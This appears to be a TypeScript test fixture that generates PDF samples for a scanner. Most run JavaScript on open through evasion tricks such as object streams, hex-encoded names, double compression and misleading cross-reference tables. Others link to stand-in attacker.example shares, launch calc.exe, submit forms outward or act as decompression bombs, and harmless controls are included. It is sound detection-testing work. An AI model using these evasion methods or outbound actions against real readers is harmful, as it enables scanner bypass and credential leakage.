import { deflateSync } from 'node:zlib'
import { pdf } from '../../media.test-kit.ts'

/** PDFs that act when somebody opens them, each written so that somebody who searches their bytes does not see it. */

export const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const latin = (text: string) => Buffer.from(text, 'latin1')

type Packing = {
  /** How the stream of objects is written, beside its plain form. */
  encode?: (content: Buffer) => Buffer
  filter?: string
  type?: string
  first?: string
  keyword?: string
  /** Stands between the dictionary and the stream. */
  gap?: string
  /** The number of the catalog, as the stream lists it, and what its content is. */
  catalog?: string
  length?: (content: Buffer) => string
}

/** A PDF whose catalog is in an object stream, as most programs write it. */
export function packedPdf({
  encode = (content) => deflateSync(content),
  filter = '/FlateDecode',
  type = '/Type /ObjStm',
  first = '/First',
  keyword = 'stream\n',
  gap = '\n',
  catalog = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`,
  length = (content) => `${content.length}`,
}: Packing = {}): Buffer {
  const content = encode(latin(`1 0 ${catalog}`))
  const objects = [
    latin('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    latin('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 100] >>'),
    Buffer.concat([
      latin(
        `<< ${type} /N 1 ${first} 4 ${filter && `/Filter ${filter}`} /Length ${length(content)} >>${gap}${keyword}`,
      ),
      content,
      latin('\nendstream'),
    ]),
  ]
  let file = latin('%PDF-1.7\n')
  const rows = [row(0, 0, 65_535), row(2, 4, 0)]
  for (const [index, object] of objects.entries()) {
    rows.push(row(1, file.length, 0))
    file = Buffer.concat([file, latin(`${index + 2} 0 obj\n`), object, latin('\nendobj\n')])
  }
  rows.push(row(1, file.length, 0))
  const table = Buffer.concat(rows)
  const head = `5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length ${table.length} >>\nstream\n`
  return Buffer.concat([
    ...[file, latin(head), table],
    latin(`\nendstream\nendobj\nstartxref\n${file.length}\n%%EOF\n`),
  ])
}

function row(kind: number, place: number, more: number): Buffer {
  const bytes = Buffer.alloc(7)
  bytes.writeUInt8(kind, 0)
  bytes.writeUInt32BE(place, 1)
  bytes.writeUInt16BE(more, 5)
  return bytes
}

const hexadecimal = (content: Buffer) => latin(`${content.toString('hex')}>`)

/** A PDF whose table leads to an object that stands elsewhere than objects do. */
function misleadingPdf(hide: (object: string) => string, words = '1 0 obj'): Buffer {
  const hidden = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`
  const file = pdf(['x'], { objects: [hide(`${words} ${hidden} endobj null`)] }).toString('latin1')
  const place = file.indexOf(`${words} <<`)
  return latin(file.replace(/(?<=65535 f \n)\d{10}/, String(place).padStart(10, '0')))
}

/** Two versions: the second one has no script any more, and the end of the file leads to the first. */
function olderPdf(): Buffer {
  const first = pdf(['x'], { catalog: `/OpenAction ${script}` }).toString('latin1')
  const start = /startxref\n\d+\n%%EOF\n$/.exec(first)?.[0] ?? ''
  return latin(`${first}1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${start}`)
}

const scripted = (catalog: string, objects: string[] = []) => pdf(['x'], { catalog, objects })

/** Run JavaScript when they are opened. */
export const scripts: Record<string, Buffer> = {
  'in an object stream': packedPdf(),
  'in an object stream that is deflated twice': packedPdf({
    encode: (content) => deflateSync(deflateSync(content)),
    filter: '[/FlateDecode /FlateDecode]',
  }),
  'in an object stream whose filter is spelled with numbers': packedPdf({
    encode: hexadecimal,
    filter: '/ASCIIH#65xDecode',
  }),
  'in an object stream in hexadecimal': packedPdf({ encode: hexadecimal, filter: '[/AHx]' }),
  'in an object stream that is not compressed, and spelled with numbers': packedPdf({
    encode: (content) => content,
    filter: '',
    catalog: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script.replace('JavaScript', 'J#61v#61Script')} >>`,
  }),
  'in an object stream whose type is spelled with numbers': packedPdf({ type: '/Type /Obj#53tm' }),
  'in an object stream of another type': packedPdf({ type: '/Type /XObject' }),
  'in an object stream whose keys are spelled with numbers': packedPdf({ type: '', first: '/Fi#72st' }),
  'in an object stream whose word has a space behind it': packedPdf({ keyword: 'stream \n' }),
  'in an object stream behind a long comment': packedPdf({ gap: `\n%${'x'.repeat(5_000)}\n` }),
  'in an object stream that is longer than it says': packedPdf({ length: () => '3' }),
  'behind the cut of an object stream': packedPdf({
    encode: (content) => content,
    filter: '',
    length: (content) => `${content.length - 9}`,
    catalog: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>%more`,
  }),
  'in plain words': scripted(`/OpenAction ${script}`),
  'under a name with numbers': scripted(`/OpenAction ${script.replace('JavaScript', '#4aavaScript')}`),
  'under a name that stands elsewhere': scripted('/OpenAction << /S 4 0 R /JS 5 0 R >>', [
    '/J#61vaScript',
    '(app.alert\\(1\\))',
  ]),
  'in the names of the document': scripted(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  'in a string, to which the table leads': misleadingPdf((object) => `(${object} null )`),
  'in a comment, to which the table leads': misleadingPdf((object) => `null % ${object}\n`),
  'in a stream, to which the table leads': misleadingPdf(
    (object) => `<< /Length ${object.length} >>\nstream\n${object}\nendstream`,
  ),
  'in an earlier version': olderPdf(),
  'behind a comment between number and word': misleadingPdf(
    (object) => `null\nendobj\n${object}`,
    `1 0%${'x'.repeat(5_000)}\nobj`,
  ),
  'behind a comment between its numbers': misleadingPdf(
    (object) => `null\nendobj\n${object}`,
    '1 %x\n% y\n0 obj',
  ),
  'in the trailer': latin(
    pdf(['x'])
      .toString('latin1')
      .replace('/Root 1 0 R', `/Root << /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`),
  ),
}

/** A page with an annotation: a link, unless it is said to be something else. */
const annotated = (annotation: string, objects: string[] = []) => {
  const file = pdf(['x'], { objects: [`<< /Type /Annot /Rect [0 0 99 99] ${annotation} >>`, ...objects] })
  const text = file.toString('latin1')
  // The table follows the objects that grew.
  return repaired(text.replace('/Type /Page /Parent', '/Type /Page /Annots [4 0 R] /Parent'))
}
const linked = (action: string, objects: string[] = []) =>
  annotated(`/Subtype /Link /A << ${action} >>`, objects)

/** Writes the table of a PDF anew. */
function repaired(text: string): Buffer {
  const body = text.slice(0, text.indexOf('xref\n'))
  const places = [...body.matchAll(/^\d+ 0 obj$/gm)].map(({ index }) => index)
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`)
  const size = places.length + 1
  return latin(
    `${body}xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
  )
}

/** Open another file, or an address that is none of the web. Each is a link on the page. */
export const addresses: Record<string, Buffer> = {
  'another file of a share': linked('/S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit]'),
  'a program': linked('/S /Launch /F (calc.exe)'),
  'a file by its address': linked('/S /URI /URI (file://attacker.example/share)'),
  'a share by its address': linked('/S /URI /URI (\\\\\\\\attacker.example\\\\share)'),
  'a script by its address': linked('/S /URI /URI (javascript:alert\\(1\\))'),
  'an address that stands elsewhere': linked('/S /URI /URI 5 0 R', ['(file:///etc/passwd)']),
  'an address in hexadecimal': linked(`/S /URI /URI <${latin('file:///etc/passwd').toString('hex')}>`),
}

/** Do something else than to show pages. Each is an annotation of the page, or a file. */
export const others: Record<string, Buffer> = {
  'sends a form': linked('/S /SubmitForm /F << /FS /URL /F (https://attacker.example) >>'),
  'reads data into a form': linked('/S /ImportData /F (data.fdf)'),
  'clears a form': linked('/S /ResetForm'),
  'prints itself': linked('/S /Named /N /Print'),
  'does what nobody knows': linked('/Type /Action /S /Unknown'),
  'plays a film': annotated('/Subtype /RichMedia /RichMediaContent << >>'),
  'shows a model': annotated('/Subtype /3D'),
  'has a file on its page': annotated(
    '/Subtype /FileAttachment /FS << /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>',
    ['<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream'],
  ),
  'is a form with a program of its own': pdf(['x'], { catalog: '/AcroForm << /XFA [] /Fields [] >>' }),
  'has an object stream that unpacks to gigabytes': packedPdf({
    encode: () => deflateSync(Buffer.alloc(300_000_000, ' ')),
  }),
  'has objects within objects within objects': latin(
    `%PDF-1.7\n${'1 0 obj ('.repeat(30_000)}${')'.repeat(30_000)}\n%%EOF`,
  ),
  'nests too deeply': latin(`%PDF-1.7\n1 0 obj ${'['.repeat(50_000)}\nendobj\n%%EOF`),
}

/** Of a town hall: what acts only as far as it shows pages and leads to the web. */
export const harmless: Record<string, Buffer> = {
  'in a table': pdf(['x']),
  'in an object stream': packedPdf({ catalog: '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>' }),
  'in an object stream that is not compressed': packedPdf({
    encode: (content) => content,
    filter: '',
    catalog: '<< /Type /Catalog /Pages 2 0 R >>',
  }),
  'with links': linked('/Type /Action /S /URI /URI (http://mairie.example/a\\(1\\).html)'),
  'with a mail address': linked('/S /URI /URI (mailto:mairie@mairie.example)'),
  'with a link to another page': linked('/S /GoTo /D [3 0 R /Fit]'),
  'with a letter as a glyph that has the name of a key': annotated(
    '/Subtype /Square /CharProcs << /S 5 0 R /F 5 0 R /A 5 0 R >>',
    ['<< /Length 1 >>\nstream\nx\nendstream'],
  ),
  'with words about objects': pdf(['the object 1 0 R of a trailer, and JavaScript']),
  'saved a second time': Buffer.concat([pdf(['x']), pdf(['y']).subarray(9)]),
}
